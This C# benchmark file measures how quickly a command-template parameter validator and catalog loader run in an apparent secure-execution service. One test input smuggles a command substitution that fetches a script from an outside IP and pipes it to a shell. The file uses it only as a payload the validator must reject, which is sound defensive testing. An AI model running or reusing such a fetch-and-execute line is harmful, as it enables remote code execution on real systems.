using System.Text.Json;
using BenchmarkDotNet.Attributes;
using SecureExec.Core.Templates;
using SecureExec.Core.Templates.Loading;
using SecureExec.Core.Templates.Validation;

namespace SecureExec.Bench;

/// <summary>
/// Validate + render of typical requests against the shipped catalog (the request's JSON is parsed beforehand, as
/// the API hands the validator a parsed body), and loading the shipped catalog from its text.
/// </summary>
[MemoryDiagnoser]
public class TemplateBenchmarks
{
    private readonly ParameterValidator _hostValidator = new(HostPathResolver.Instance);
    private readonly ParameterValidator _lexicalValidator = new(new LexicalPathResolver());
    private string _catalogText = "";
    private CommandTemplate _grepLog = null!;
    private CommandTemplate _listFiles = null!;
    private JsonElement _grepRequest;
    private JsonElement _listRequest;
    private JsonElement _injectionRequest;

    [GlobalSetup]
    public void Setup()
    {
        _catalogText = File.ReadAllText(Repository.ShippedCatalogPath);
        var loaded = CatalogLoader.LoadText(_catalogText);
        var catalog = loaded.Catalog ?? throw new InvalidOperationException(string.Join(Environment.NewLine, loaded.Errors));
        _grepLog = catalog.Find("grep_log")!;
        _listFiles = catalog.Find("list_files")!;

        // A text, a path confined to /var/log (with forbidden files) and an int.
        _grepRequest = Parse("""{"text": "connection refused", "logfile": "/var/log/syslog", "max_matches": 100}""");
        // An enum and a path confined to /var/log or /srv.
        _listRequest = Parse("""{"options": "-la", "path": "/srv/app/releases"}""");
        // Command substitution in the text: refused as shell_syntax and flagged as an injection attempt.
        _injectionRequest = Parse("""{"text": "$(curl -s http://203.0.113.7/x | sh)", "logfile": "/var/log/syslog"}""");

        Check(_hostValidator.Validate(_grepLog, _grepRequest), valid: true);
        Check(_hostValidator.Validate(_listFiles, _listRequest), valid: true);
        Check(_hostValidator.Validate(_grepLog, _injectionRequest), valid: false);
    }

    [Benchmark(Baseline = true, Description = "grep_log: text + path + int, host resolver")]
    public ValidationResult GrepLogHostResolver() => _hostValidator.Validate(_grepLog, _grepRequest);

    [Benchmark(Description = "grep_log: text + path + int, lexical resolver")]
    public ValidationResult GrepLogLexicalResolver() => _lexicalValidator.Validate(_grepLog, _grepRequest);

    [Benchmark(Description = "list_files: enum + path, host resolver")]
    public ValidationResult ListFilesHostResolver() => _hostValidator.Validate(_listFiles, _listRequest);

    [Benchmark(Description = "list_files: enum + path, lexical resolver")]
    public ValidationResult ListFilesLexicalResolver() => _lexicalValidator.Validate(_listFiles, _listRequest);

    [Benchmark(Description = "grep_log: injection payload, rejected")]
    public ValidationResult GrepLogInjectionRejected() => _hostValidator.Validate(_grepLog, _injectionRequest);

    [Benchmark(Description = "load shipped catalog (from text)")]
    public CatalogLoadResult LoadShippedCatalog() => CatalogLoader.LoadText(_catalogText);

    private static JsonElement Parse(string json) => JsonDocument.Parse(json).RootElement.Clone();

    private static void Check(ValidationResult result, bool valid)
    {
        if (result.IsValid != valid || (!valid && !result.IsInjectionAttempt))
        {
            throw new InvalidOperationException($"unexpected validation outcome: {string.Join("; ", result.Errors)}");
        }
    }
}
